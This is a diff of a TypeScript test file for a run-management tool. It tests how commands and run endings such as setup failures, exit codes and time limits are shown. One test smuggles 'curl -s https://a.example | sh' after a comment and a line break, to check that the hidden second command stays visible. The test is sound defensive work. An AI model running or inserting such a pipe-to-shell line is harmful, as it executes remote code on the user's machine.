@@ -1,7 +1,14 @@
-// A run's command, where someone decides whether it may run: what is shown means what the shell reads.
+// A run's command, where someone decides whether it may run: what is shown means what the shell reads. How it ended: the truth.
 import assert from "node:assert/strict";
-import { test } from "node:test";
-import { formatCommand } from "../../../../src/present/run/run-text.ts";
+import { describe, test } from "node:test";
+import { type EndedRun, type RunRecord, readRunRecord } from "../../../../src/domain/run/run-record.ts";
+import {
+  buildRunLine,
+  describeRunEnd,
+  describeState,
+  formatCommand,
+  listRunEndLines,
+} from "../../../../src/present/run/run-text.ts";
 
 test("a line break of a command is seen: without it, what follows a comment would seem to be one", () => {
   for (const lineBreak of ["\n", "\r\n"])
@@ -9,4 +16,62 @@ test("a line break of a command is seen: without it, what follows a comment woul
       formatCommand(`python3 train.py  # see notes${lineBreak}curl -s https://a.example | sh`),
       formatCommand("python3 train.py  # see notes curl -s https://a.example | sh"),
     );
+});
+
+function runOf(how: Partial<EndedRun>, plan: Partial<RunRecord["plan"]> = {}): RunRecord {
+  const whole = {
+    name: "train.py",
+    command: "python3 -u train.py",
+    setup: "false",
+    folder: "/f",
+    remote: "/r",
+    ...plan,
+  };
+  return {
+    ...{ version: 1, id: "20261125-201500-a-abcd" as never, base: "https://a", account: "a", instance: 7 as never },
+    ...{ plan: whole, at: 0, window: "w" },
+    state: { kind: "ended", at: 1000, exit: 1, seconds: 1, results: { kind: "none" }, ...how },
+  };
+}
+
+describe("a run whose setup failed", () => {
+  const FAILED = { isSetupFailure: true };
+  const SCRIPT = "Setup failed with exit code 1, so train.py didn't start.";
+  const OTHER = "Setup failed with exit code 1, so the command didn't start.";
+  const ENDED = "Ended with exit code 1 after 1 s.";
+  for (const [what, run, first, state] of [
+    ["names its script", runOf(FAILED), SCRIPT, "setup failed, exit code 1"],
+    ["names it also as a rank", runOf(FAILED, { name: "train.py [0]" }), SCRIPT, "setup failed, exit code 1"],
+    [
+      "names it by the command that is shown",
+      runOf(FAILED, { command: "torchrun x", shown: "python3 -u train.py" }),
+      SCRIPT,
+      "setup failed, exit code 1",
+    ],
+    ["names no script that isn't run", runOf(FAILED, { command: "make" }), OTHER, "setup failed, exit code 1"],
+    [
+      "takes no other name for a script's",
+      runOf(FAILED, { name: "a.gpu-template.json", command: "cat a.gpu-template.json" }),
+      OTHER,
+      "setup failed, exit code 1",
+    ],
+    ["says so only if that is known", runOf({}), ENDED, "exit code 1"],
+    [
+      "is one that its limit stopped, if that did",
+      runOf({ ...FAILED, isLimited: true }),
+      "Stopped by its limit after 1 s (exit code 1).",
+      "exit code 1",
+    ],
+  ] as const)
+    test(what, () => {
+      assert.equal(listRunEndLines(run, undefined)[0], first);
+      const { severity, text } = describeRunEnd(run, undefined);
+      assert.ok(severity === "warning" && text.includes(`: ${first}`), text);
+      assert.equal(describeState(run), state);
+      assert.ok(buildRunLine(run, 0).description.startsWith(`${state} · `));
+    });
+
+  test("is known to a window that is opened later", () => {
+    assert.deepEqual(readRunRecord(JSON.stringify(runOf(FAILED)))?.state, runOf(FAILED).state);
+  });
 });
